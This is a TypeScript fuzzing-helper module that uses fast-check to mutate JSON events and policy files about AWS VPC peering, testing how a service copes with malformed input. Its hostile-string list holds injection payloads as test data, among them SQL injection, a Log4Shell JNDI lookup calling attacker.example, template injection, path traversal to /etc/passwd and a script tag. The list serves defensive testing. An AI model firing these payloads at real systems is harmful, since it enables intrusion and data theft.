import fc from "fast-check";
import {
  allPaths,
  deleteAt,
  getAt,
  JSON_TYPES,
  type Json,
  type JsonType,
  type Path,
  setAt,
  typeOf,
} from "./json-paths";

/** Runs and seed of every property here: PROPERTY_RUNS (default 200) and PROPERTY_SEED (fixed by default). */
export function propertyOptions(): { numRuns: number; seed: number; endOnFailure: true } {
  return {
    numRuns: Number(process.env.PROPERTY_RUNS ?? 200),
    seed: Number(process.env.PROPERTY_SEED ?? 20261127),
    // A failing case is reported as found: shrinking would rebuild a fresh service per step.
    endOnFailure: true,
  };
}

/** Strings an attacker or a broken forwarder might put where an id goes. */
export const HOSTILE_STRINGS = [
  "",
  " ",
  "pcx-",
  "pcx-0123456789abcdef0' OR '1'='1",
  "pcx-0123456789abcdef0; DROP TABLE peering;--",
  "pcx-0123456789abcdef0\n",
  " pcx-0123456789abcdef0",
  "pcx-0123456789ABCDEF0",
  "pcx-0123456789abcdef\uff10",
  "pcx-*",
  "pcx-0123456789abcdef0,pcx-0aaaaaaaaaaaaaaaa",
  "vpc-0a1b2c3d4e5f60001\u0000",
  "$" + "{jndi:ldap://attacker.example/a}",
  "{{7*7}}",
  "../../../../etc/passwd",
  "<script>alert(1)</script>",
  "111111111111\n222222222222",
  "\uff11\uff11\uff11\uff11\uff11\uff11\uff11\uff11\uff11\uff11\uff11\uff11",
  "us\u2010east\u20101",
  "us-east-1\r\n",
  "EC2.amazonaws.com",
  "ec2.amazonaws.com.attacker.example",
  "\u202eevil",
  "\ud800",
  "🦜🦜🦜",
];

/** Valid-looking values that name other things the world has (or has not): mutations that still parse. */
export const PLAUSIBLE_STRINGS = [
  "111111111111",
  "222222222222",
  "333333333333",
  "444444444444",
  "us-east-1",
  "eu-west-1",
  "ap-southeast-2",
  "us-gov-west-1",
  "pcx-0123456789abcdef0",
  "pcx-0fedcba9876543210",
  "pcx-00000000000000001",
  "pcx-00000000000000002",
  "pcx-deadbeef",
  "vpc-0f9e8d7c6b5a40001",
  "vpc-0a1b2c3d4e5f60001",
  "vpc-0a1b2c3d4e5f60002",
  "ec2.amazonaws.com",
  "sts.amazonaws.com",
  "CreateVpcPeeringConnection",
  "AcceptVpcPeeringConnection",
  "RejectVpcPeeringConnection",
  "DeleteVpcPeeringConnection",
  "AssociateVpcCidrBlock",
  "DisassociateVpcCidrBlock",
  "ReplaceRoute",
  "Client.UnauthorizedOperation",
  "10.20.0.0/16",
  "0.0.0.0/0",
  "2026-11-20T09:14:03Z",
];

export const randomString: fc.Arbitrary<string> = fc.oneof(
  { arbitrary: fc.string({ maxLength: 40 }), weight: 3 },
  { arbitrary: fc.string({ unit: "grapheme", maxLength: 20 }), weight: 2 },
  { arbitrary: fc.string({ unit: "binary", maxLength: 20 }), weight: 1 },
  { arbitrary: fc.constantFrom(...HOSTILE_STRINGS), weight: 3 },
  { arbitrary: fc.constantFrom(...PLAUSIBLE_STRINGS), weight: 4 },
);

/**
 * A big value built only when a mutation is applied, so that a counterexample prints as a label
 * ("1000000 x 'A'") rather than as a megabyte of text.
 */
export class Lazy {
  constructor(
    readonly label: string,
    readonly make: () => Json,
  ) {}

  [fc.toStringMethod](): string {
    return this.label;
  }
}

/** Materialises Lazy values (at any depth of a generated value). */
export function materialise(value: unknown): Json {
  if (value instanceof Lazy) return value.make();
  if (Array.isArray(value)) return value.map(materialise);
  if (typeof value === "object" && value !== null) {
    const out: Record<string, Json> = {};
    for (const key of Object.keys(value)) {
      Object.defineProperty(out, key, {
        value: materialise((value as Record<string, unknown>)[key]),
        enumerable: true,
        writable: true,
        configurable: true,
      });
    }
    return out;
  }
  return value as Json;
}

const hugeString: fc.Arbitrary<Lazy> = fc
  .tuple(fc.constantFrom(10_000, 100_000, 1_000_000), fc.constantFrom("A", "0", "é", "pcx-", "\n"))
  .map(
    ([size, unit]) =>
      new Lazy(`${size} x ${JSON.stringify(unit)}`, () => unit.repeat(Math.ceil(size / unit.length))),
  );

/** Strings for mutations: random, hostile, plausible, or huge (lazily). */
export const mutationString: fc.Arbitrary<string | Lazy> = fc.oneof(
  { arbitrary: randomString, weight: 12 },
  { arbitrary: hugeString, weight: 1 },
);

const smallJson = fc.jsonValue({ maxDepth: 2 }) as fc.Arbitrary<Json>;

/** One value of each JSON type, so that a leaf can be replaced by one of another type. */
function valueOfEachType(huge: boolean): fc.Arbitrary<Record<JsonType, Json>> {
  return fc.record({
    null: fc.constant(null),
    boolean: fc.boolean(),
    number: fc.oneof(
      fc.integer(),
      fc.double({ noNaN: true, noDefaultInfinity: true }),
      fc.constantFrom(0, -1, 111111111111, 2 ** 53 + 1),
    ),
    string: (huge ? mutationString : randomString) as fc.Arbitrary<Json>,
    array: huge
      ? fc.oneof(
          fc.array(smallJson, { maxLength: 4 }),
          fc.constant(new Lazy("10000 x 'x'", () => new Array<Json>(10_000).fill("x")) as unknown as Json),
        )
      : fc.array(smallJson, { maxLength: 4 }),
    object: fc.dictionary(fc.string({ maxLength: 8 }), smallJson, { maxKeys: 4 }),
  });
}

export type Mutation =
  | { op: "delete"; pick: number }
  | { op: "retype"; pick: number; other: number; values: Record<JsonType, Json> }
  | { op: "restring"; pick: number; value: string | Lazy }
  | { op: "array"; pick: number; how: "duplicate" | "shuffle" | "empty" | "flood"; order: number[] }
  | { op: "add"; pick: number; key: string; value: Json };

/**
 * Random mutations of a JSON document: delete a path, replace a leaf with a value of another type,
 * replace a string, duplicate/shuffle/empty/flood an array, add a key. With `huge`, strings of up to
 * 1 MB and arrays of 10k elements as well.
 */
function mutationsOf(huge: boolean): fc.Arbitrary<Mutation[]> {
  const hows = huge
    ? (["duplicate", "shuffle", "empty", "flood"] as const)
    : (["duplicate", "shuffle", "empty"] as const);
  const mutation: fc.Arbitrary<Mutation> = fc.oneof(
    fc.record({ op: fc.constant("delete" as const), pick: fc.nat() }),
    fc.record({
      op: fc.constant("retype" as const),
      pick: fc.nat(),
      other: fc.nat(),
      values: valueOfEachType(huge),
    }),
    fc.record({
      op: fc.constant("restring" as const),
      pick: fc.nat(),
      value: huge ? mutationString : randomString,
    }),
    fc.record({
      op: fc.constant("array" as const),
      pick: fc.nat(),
      how: fc.constantFrom(...hows),
      order: fc.array(fc.nat(), { minLength: 1, maxLength: 8 }),
    }),
    fc.record({
      op: fc.constant("add" as const),
      pick: fc.nat(),
      key: fc.oneof(fc.string({ maxLength: 12 }), fc.constantFrom("__proto__", "constructor", "errorCode")),
      value: smallJson,
    }),
  );
  return fc.array(mutation, { minLength: 1, maxLength: 3 });
}

/** For events: anything, up to megabytes. */
export const mutations = mutationsOf(true);
/** For policy files, which people write: the same kinds of mutation, of ordinary size. */
export const lightMutations = mutationsOf(false);

export interface Mutated<T> {
  value: T;
  /** The paths the mutations changed, in order. */
  touched: Path[];
  /** One line per mutation, for failure messages. */
  log: string[];
}

/** Applies the mutations to a deep copy; a mutation with nothing to act on is a no-op. */
export function applyMutations<T>(original: T, list: readonly Mutation[]): Mutated<T> {
  const value = structuredClone(original);
  const touched: Path[] = [];
  const log: string[] = [];
  for (const m of list) {
    const paths = allPaths(value);
    const choose = (candidates: Path[]) => candidates[m.pick % Math.max(1, candidates.length)];
    const show = (v: unknown) => {
      const text = JSON.stringify(v) ?? String(v);
      return text.length > 60 ? `${text.slice(0, 60)}… (${text.length} chars)` : text;
    };
    if (m.op === "delete") {
      const path = choose(paths);
      if (!path) continue;
      deleteAt(value, path);
      touched.push(path);
      log.push(`delete ${path.join(".")}`);
    } else if (m.op === "retype") {
      const leaves = paths.filter((p) => {
        const t = typeOf(getAt(value, p));
        return t !== "array" && t !== "object";
      });
      const path = choose(leaves);
      if (!path) continue;
      const current = typeOf(getAt(value, path));
      const others = JSON_TYPES.filter((t) => t !== current);
      const type = others[m.other % others.length] as JsonType;
      const replacement = materialise(m.values[type]);
      setAt(value, path, replacement);
      touched.push(path);
      log.push(`retype ${path.join(".")} (${current}) := ${show(replacement)}`);
    } else if (m.op === "restring") {
      const strings = paths.filter((p) => typeof getAt(value, p) === "string");
      const path = choose(strings);
      if (!path) continue;
      const replacement = materialise(m.value);
      setAt(value, path, replacement);
      touched.push(path);
      log.push(`restring ${path.join(".")} := ${show(replacement)}`);
    } else if (m.op === "array") {
      const arrays = paths.filter((p) => Array.isArray(getAt(value, p)));
      const path = choose(arrays);
      if (!path) continue;
      const items = getAt(value, path) as Json[];
      const next =
        m.how === "duplicate"
          ? [...items, ...items]
          : m.how === "empty"
            ? []
            : m.how === "flood"
              ? flood(items)
              : shuffle(items, m.order);
      setAt(value, path, next);
      touched.push(path);
      log.push(`array ${m.how} ${path.join(".")} (${items.length} -> ${next.length})`);
    } else {
      const objects = [[], ...paths].filter((p) => typeOf(p.length ? getAt(value, p) : value) === "object");
      const path = choose(objects);
      if (!path) continue;
      const target = [...path, m.key];
      // defineProperty: a "__proto__" key must become an own key, as JSON.parse makes it.
      const parent = (path.length ? getAt(value, path) : value) as Record<string, unknown>;
      Object.defineProperty(parent, m.key, {
        value: materialise(m.value),
        enumerable: true,
        writable: true,
        configurable: true,
      });
      touched.push(target);
      log.push(`add ${target.join(".")} := ${show(m.value)}`);
    }
  }
  return { value, touched, log };
}

/**
 * 10k elements when they are small (a flood of ids), fewer when they are not, so that floods nested
 * in one another stay within memory: at most about 200k characters of copies per flood.
 */
function flood(items: readonly Json[]): Json[] {
  const size = Math.max(1, ...items.map((item) => JSON.stringify(item)?.length ?? 1));
  const length = Math.max(2, Math.min(10_000, Math.floor(200_000 / size)));
  return Array.from({ length }, (_, i) => structuredClone(items[i % Math.max(1, items.length)] ?? i));
}

function shuffle<T>(items: readonly T[], order: readonly number[]): T[] {
  const copy = [...items];
  for (let i = copy.length - 1; i > 0; i--) {
    const j = (order[i % order.length] ?? 0) % (i + 1);
    [copy[i], copy[j]] = [copy[j] as T, copy[i] as T];
  }
  return copy;
}
